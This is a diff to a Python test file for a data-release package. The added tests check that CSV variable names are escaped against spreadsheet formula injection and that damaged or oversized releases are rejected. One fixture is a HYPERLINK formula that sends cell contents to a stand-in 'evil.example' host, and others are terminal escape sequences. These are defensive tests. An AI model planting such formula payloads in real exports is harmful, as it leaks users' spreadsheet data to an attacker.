@@ -15,7 +15,14 @@ import typer
 from typer.testing import CliRunner
 
 from silomix.airlock import explain, read_contents, read_release, write_release
-from silomix.airlock.format import LARGEST_FILE, MANIFEST, MOST_LINES
+from silomix.airlock.format import (
+    LARGEST_FILE,
+    MANIFEST,
+    MOST_LINES,
+    for_spreadsheet,
+    from_spreadsheet,
+)
+from silomix.airlock.reading import _read_schema
 from silomix.airlock.writing import release_files
 from silomix.cli.release import inspect_command, release_command
 from silomix.errors import FileError, StudyMismatch
@@ -119,7 +126,7 @@ class TestRoundTrip:
 
     def test_names_of_all_kinds(self, tmp_path, seed):
         local = clustered(np.random.default_rng(seed), [40, 30], (2, 2), draws=20)
-        names = ['a "quoted", $name$', "two\nlines\r\nand 数", "=1+1", "plain"]
+        names = ['a "quoted", $name$', "two, and 数", "=1+1", "plain"]
         schema = Schema((Variable(names[0], (names[1], names[2])), Variable(names[3], ("a", "b"))))
         shard = Shard(schema, local.draws.shard.codes)
         local = replace(local, draws=replace(local.draws, shard=shard))
@@ -127,6 +134,51 @@ class TestRoundTrip:
         release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
         write_release(release, tmp_path / "r", schema)
         assert fingerprint(read_release(tmp_path / "r", study)) == fingerprint(release)
+
+    def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
+        local = clustered(np.random.default_rng(seed), [40, 30], (2, 2), draws=20)
+        levels = ("+ve", "-1"), ("'=1+1", "+")
+        link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+        schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
+        shard = Shard(schema, local.draws.shard.codes)
+        local = replace(local, draws=replace(local.draws, shard=shard))
+        study = make_study(schema, ROSTER, tier="draws")
+        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
+        write_release(release, tmp_path / "r", schema)
+        assert fingerprint(read_release(tmp_path / "r", study)) == fingerprint(release)
+        assert read_contents(tmp_path / "r").schema == schema
+        cells = {
+            cell
+            for path in (tmp_path / "r").glob("*.csv")
+            for row in csv.reader(io.StringIO(path.read_text(), newline=""))
+            for cell in row
+        }
+        assert not any(cell.startswith(("=", "@", "+v")) for cell in cells)
+        assert {f"'{link}", f"'{link}=+ve", "'@SUM(1)", "'+ve", "-1", "''=1+1", "+"} <= cells
+
+    @pytest.mark.parametrize(
+        ("name", "written"),
+        [
+            ("=1+1", "'=1+1"),
+            (" =1+1", "' =1+1"),
+            ("\uff1d1", "'\uff1d1"),
+            ("-1+2", "'-1+2"),
+            ("--1", "'--1"),
+            ("-ve", "'-ve"),
+            ("+/-", "'+/-"),
+            ("'=1", "''=1"),
+            *((same, same) for same in ("-", "+", "-1", "+1.5", "-1,5", "-.5", "-1e-5", "-5%")),
+            *((same, same) for same in ("a", "1-2", "'a", "'-1", "a=b", "", "a@b", "- ")),
+        ],
+    )
+    def test_names_come_back_from_a_spreadsheet(self, name, written):
+        assert for_spreadsheet(name) == written
+        assert from_spreadsheet(written) == name
+        assert from_spreadsheet(for_spreadsheet(written)) == written
+
+    def test_names_of_earlier_releases_are_read_as_they_are(self):
+        assert from_spreadsheet("=1+1") == "=1+1"
+        assert from_spreadsheet("'tis") == "'tis"
 
     def test_not_known_diagnostics(self, tmp_path, summary):
         unknown = replace(
@@ -259,6 +311,49 @@ class TestRefusals:
         content = summary.files["profile.csv"].replace(b",v0,", b",sex,")
         with pytest.raises(StudyMismatch, match=r"profile\.csv has other variables or levels"):
             self.read(tmp_path, summary, forge(summary.files, "profile.csv", content))
+
+    def test_more_than_the_study_has_is_not_even_read(self, tmp_path, summary):
+        files = json.loads(summary.files[MANIFEST])["files"]
+        more = {f"profile_{place}.csv": ENTRY | {"rows": 4_999} for place in range(2, 1_000)}
+        with pytest.raises(StudyMismatch, match=r"profile\.csv has other variables or levels"):
+            self.read(tmp_path, summary, edit(summary.files, files=files | more))
+
+    def test_more_bytes_than_the_reader_takes(self, tmp_path, summary):
+        folder = put(tmp_path / "r", summary.files)
+        total = sum(len(content) for name, content in summary.files.items() if name != MANIFEST)
+        with pytest.raises(FileError, match=f"has {total:,} bytes, and {total - 1:,} are"):
+            read_release(folder, summary.study, largest=total - 1)
+        read_release(folder, summary.study, largest=total)
+
+    def test_carriage_returns_are_lines_too(self, tmp_path, summary):
+        content = summary.files["checks.csv"] + b"\r" * 100
+        with pytest.raises(FileError, match=r"checks\.csv is damaged: it has a carriage return"):
+            self.read(tmp_path, summary, forge(summary.files, "checks.csv", content))
+
+    @pytest.mark.parametrize("name", [b"v\x1b[2J", b'"v\nw"', "v\u2028".encode()])
+    def test_names_that_a_screen_would_obey(self, tmp_path, summary, name):
+        content = summary.files["profile.csv"].replace(b",v0,", b"," + name + b",")
+        with pytest.raises(FileError, match=r"profile\.csv is damaged: a name has control charact"):
+            read_contents(put(tmp_path / "r", forge(summary.files, "profile.csv", content)))
+
+    def test_a_schema_is_read_in_one_go(self):
+        """The names of n variables are compared a few times each, not n times each."""
+        compared = 0
+
+        class Name(str):
+            __slots__ = ()
+
+            def __eq__(self, other):
+                nonlocal compared
+                compared += 1
+                return str.__eq__(self, other)
+
+            __hash__ = str.__hash__
+
+        names = [Name(f"v{place}") for place in range(1_000)]
+        schema = _read_schema(Path("profile.csv"), [["0", name, "a"] for name in names], 1)
+        assert [variable.name for variable in schema.variables] == names
+        assert compared < 20 * len(names)
 
     @pytest.mark.parametrize("name", ["README.txt", "profile.csv", "profile.png", "checks.csv"])
     def test_a_changed_file(self, tmp_path, summary, name):
